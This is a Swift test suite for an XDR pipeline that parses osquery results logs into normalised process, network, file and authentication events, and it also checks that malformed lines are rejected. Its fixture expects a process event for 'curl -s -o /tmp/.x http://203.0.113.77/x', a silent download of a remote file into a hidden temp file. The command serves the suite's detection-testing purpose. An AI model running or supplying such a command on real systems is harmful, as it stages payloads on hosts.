import Foundation
import Testing
@testable import XDRIngest
import XDRModel

/// Golden osquery results-log lines: differential rows, a snapshot of two rows, a batch diff.
@Suite struct OsqueryFormatTests {
    static let golden = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Golden/osquery_results.ndjson")

    func events() throws -> [NormalizedEvent] {
        let run = try FormatHarness.run(OsqueryFormat(), file: Self.golden)
        #expect(run.rejected.isEmpty, "\(run.rejected.map { "\($0.number): \($0.error)" })")
        #expect(run.accepted.count == 5)
        return run.accepted
    }

    @Test func processEventUsesTheEventTimeAndProcessColumns() throws {
        let event = try events()[0]
        #expect(event.time == 1_709_648_467_000_000)
        #expect(event.classUID == OCSFClass.processActivity && event.activityID == 1)
        #expect(event.kind == .telemetry && event.severity == .informational)
        #expect(event.sourceProduct == "osquery" && event.sourceFormat == "osquery")
        #expect(event.sourceEventID == "web01.corp.example:pack_incident-response_process_events:91822")
        #expect(event.title == "Process launched: curl -s -o /tmp/.x http://203.0.113.77/x")
        #expect(event.processImage == "/usr/bin/curl" && event.processPID == 2245)
        #expect(event.details["process.parent_process.pid"]?.int == 2210)
        #expect(event.entityKeys == ["host:web01", "user:alice"])
    }

    @Test func socketEventHasBothEnds() throws {
        let event = try events()[1]
        #expect(event.time == 1_709_648_468_000_000)
        #expect(event.classUID == OCSFClass.networkActivity && event.activityID == 1)
        #expect(event.srcIP == "10.20.40.11" && event.srcPort == 51544)
        #expect(event.dstIP == "203.0.113.77" && event.dstPort == 80)
        #expect(event.networkProtocol == "tcp")
        #expect(event.sourceEventID == nil)
    }

    @Test func snapshotRowsBecomeOneEventEach() throws {
        let all = try events()
        let created = all[2], updated = all[3]
        #expect(created.classUID == OCSFClass.fileActivity && created.activityID == 1)
        #expect(updated.activityID == 3)
        #expect(created.time == 1_709_648_470_000_000)
        #expect(created.filePath == "/tmp/.x")
        #expect(created.details["device.uid"]?.string == "7F1D3C2A-9B4E-4F7A-8C21-3D5E6F708192")
        #expect(created.entityKeys == ["host:web01", "file:.x", "hash:ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb",
                                       "hash:86f7e437faa5a7fce15d1ddcb9eaeaea377667b8", "hash:0cc175b9c0f1b6a831c399e269772661"])
        #expect(updated.entityKeys == ["host:web01", "file:.y"])
    }

    @Test func batchDiffLoginIsAuthentication() throws {
        let event = try events()[4]
        #expect(event.classUID == OCSFClass.authentication)
        #expect(event.time == 1_709_648_400_000_000)
        #expect(event.srcIP == "198.51.100.23")
        #expect(event.entityKeys == ["host:web01", "user:alice", "ip:198.51.100.23"])
    }

    @Test func parsesCalendarTimeWhenUnixTimeIsAbsent() {
        #expect(OsqueryFormat.calendarTime("Tue Mar  5 14:21:08 2024 UTC") == 1_709_648_468_000_000)
        #expect(OsqueryFormat.calendarTime("Tue Mar  5 14:21:08 2024") == nil)
    }

    @Test func rejectsMalformedLines() {
        let body = """
        {"hostIdentifier":"h","unixTime":1709648468,"columns":{}}
        {"name":"q","hostIdentifier":"h","unixTime":"soon","columns":{}}
        {"name":"q","hostIdentifier":"h","calendarTime":"yesterday","columns":{}}
        {"name":"q","hostIdentifier":"h","unixTime":1709648468}
        {"name":"q","hostIdentifier":"h","unixTime":1709648468,"snapshot":[1]}
        {"name":"q","unixTime":1709648468,"columns":{}}
        """
        let messages = FormatHarness.run(OsqueryFormat(), body).rejected.map { "\($0.number): \($0.error)" }
        #expect(messages == [
            "1: field \"name\": missing",
            "2: field \"unixTime\": expected epoch seconds, got \"soon\"",
            "3: field \"calendarTime\": not a date: \"yesterday\"",
            "4: field \"columns\": missing (expected columns, snapshot or diffResults)",
            "5: field \"snapshot[0]\": expected an object, got a number",
            "6: field \"hostIdentifier\": missing",
        ])
    }

    @Test func survivesOutOfRangeNumbers() {
        let body = """
        {"name":"q","hostIdentifier":"h","unixTime":99999999999999999,"columns":{}}
        {"name":"q","hostIdentifier":"h","unixTime":1709648468,"columns":{"time":"99999999999999999","pid":"1e300","remote_port":"70000"}}
        """
        let run = FormatHarness.run(OsqueryFormat(), body)
        #expect(run.rejected.map(\.number) == [1])
        #expect(run.accepted.first?.time == 1_709_648_468_000_000)
    }
}
